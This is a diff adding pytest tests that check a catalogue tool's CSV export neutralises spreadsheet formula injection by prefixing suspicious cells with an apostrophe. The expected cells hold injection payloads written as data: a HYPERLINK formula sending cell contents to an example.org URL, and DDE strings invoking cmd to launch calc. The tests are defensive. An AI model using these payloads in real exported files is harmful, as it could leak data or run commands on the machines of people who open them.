@@ -659,3 +659,75 @@ def test_export_command_wants_an_absolute_site_url(project: Path) -> None:
     result = run_cli("export", "--site-url", "/relative/")
     assert result.exit_code == 2
     assert "absolute" in result.output
+
+
+# --- CSV cells are never formulas ----------------------------------------------------------------------
+
+HOSTILE = Path(__file__).parent / "fixtures" / "hostile" / "catalogue"
+
+
+@pytest.fixture(scope="module")
+def hostile_csv(schemas: SchemaSet) -> dict[str, dict[str, dict[str, str]]]:
+    """The CSV files of a valid catalogue whose texts begin with formulas: plural → id → column → cell."""
+    from innokatalog.validate import Options, validate
+
+    loaded = load_catalogue(HOSTILE)
+    assert not [f for f in validate(loaded, schemas, Options()) if f.is_error]  # such texts pass validation
+    documents = export.export_documents(Catalogue(loaded.entries), schemas, SITE, GENERATED, issued=ISSUED)
+    return {
+        plural: {row["id"]: row for row in read_csv(documents[f"{plural}.csv"])[1]}
+        for plural in ("units", "contacts")
+    }
+
+
+def test_csv_cells_that_begin_like_a_formula_get_an_apostrophe(hostile_csv) -> None:
+    unit, contact = hostile_csv["units"]["formelbolaget"], hostile_csv["contacts"]["formelkanalen"]
+    expected = {
+        (unit["name_sv"], '=HYPERLINK("https://example.org/?d="&A1,"Klicka")'),
+        (unit["name_en"], "+SUM(1+1)*cmd|' /C calc'!A0"),
+        (unit["summary_sv"], "-2+3+cmd|' /C calc'!A0"),
+        (unit["summary_en"], "@SUM(1+1)"),
+        (unit["tags"], "\t=1+1; vanlig"),
+        (contact["name_sv"], "\r=1+1"),
+        (contact["summary_sv"], "- en punkt i en lista, inte en formel"),
+        (contact["summary_en"], "=1+1"),
+    }
+    for cell, text in expected:
+        assert cell == "'" + text
+
+
+def test_csv_keeps_phone_numbers_and_plain_cells_as_written(hostile_csv) -> None:
+    contact = hostile_csv["contacts"]["formelkanalen"]
+    assert contact["channels_phone"] == "+46 8 123 456 78"
+    assert contact["name_en"] == "Formula channel"
+    assert contact["response_days"] == "5"
+
+
+def test_spreadsheet_safe_rule() -> None:
+    phone = export._phone_format("contact", SchemaSet(PROJECT / "schema"))["channels_phone"]
+    assert export.spreadsheet_safe("-12") == "-12"
+    assert export.spreadsheet_safe("+3.5") == "+3.5"
+    assert export.spreadsheet_safe("+46 8 123 456 78") == "'+46 8 123 456 78"  # outside a phone column
+    assert export.spreadsheet_safe("+46 8 123 456 78", phone) == "+46 8 123 456 78"
+    assert export.spreadsheet_safe("+46 8 123; =1+1", phone) == "'+46 8 123; =1+1"
+    assert export.spreadsheet_safe("=1+1", phone) == "'=1+1"
+    assert export.spreadsheet_safe("a=1") == "a=1"
+    assert export.spreadsheet_safe("") == ""
+
+
+@pytest.mark.parametrize(
+    ("lang", "tab", "carriage_return"), [("sv", "tabb", "vagnretur"), ("en", "a tab", "a carriage return")]
+)
+def test_the_open_data_page_states_the_spreadsheet_rule(lang: str, tab: str, carriage_return: str) -> None:
+    from html import unescape
+
+    from innokatalog.render import Renderer
+
+    from .mini import mini_catalogue
+
+    html = unescape(Renderer(mini_catalogue(), SchemaSet(PROJECT / "schema"), lang).open_data_page().html)
+    rule = html[html.index('id="spreadsheets"') :]
+    named = {"\t": tab, "\r": carriage_return}
+    for start in export.FORMULA_STARTS:
+        assert f"{named.get(start, start)}," in rule or f"{named.get(start, start)} " in rule, start
+    assert "(')" in rule and "+46 8 123 456 78" in rule and "-12" in rule
